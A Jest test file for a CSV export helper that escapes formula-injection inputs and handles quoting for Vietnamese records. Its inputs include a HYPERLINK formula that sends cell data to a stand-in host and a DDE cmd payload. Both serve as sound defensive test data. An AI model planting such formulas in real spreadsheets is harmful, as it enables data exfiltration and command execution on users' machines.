import { csvCell, toCsv } from './csv';

describe('csvCell', () => {
  test.each<[string | number | boolean | null | undefined, string]>([
    // formula starts are neutralised
    ['=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")', `"'=HYPERLINK(""http://x.example/?d=""&A1,""Bấm vào đây"")"`],
    ['=1+1', "'=1+1"],
    ['+84 905 123 456', "'+84 905 123 456"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    // ordinary Vietnamese text, codes and dates stay as they are
    ['Nguyễn Văn An', 'Nguyễn Văn An'],
    ['000.00.03.H13', '000.00.03.H13'],
    ['125/QĐ-UBND', '125/QĐ-UBND'],
    ['15/08/1990', '15/08/1990'],
    ['0905123456', '0905123456'],
    ['a=b', 'a=b'],
    // quoting
    ['Sở Tư pháp, thành phố Cần Thơ', '"Sở Tư pháp, thành phố Cần Thơ"'],
    ['Phường "Ninh Kiều"', '"Phường ""Ninh Kiều"""'],
    ['dòng 1\ndòng 2', '"dòng 1\ndòng 2"'],
    ['', ''],
    // numbers are numbers, negative ones too
    [-1.5, '-1.5'],
    [4.98, '4.98'],
    [true, 'true'],
    [null, ''],
    [undefined, ''],
  ])('%j → %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});

describe('toCsv', () => {
  test('a header and rows, CRLF, with the byte-order mark Excel needs for Vietnamese', () => {
    expect(toCsv([['fullName', 'position'], ['Trần Thị Thu Hương', '=cmd|" /C calc"!A0'], ['Lê Quốc Việt', null]])).toBe(
      `\uFEFFfullName,position\r\nTrần Thị Thu Hương,"'=cmd|"" /C calc""!A0"\r\nLê Quốc Việt,\r\n`,
    );
  });
});
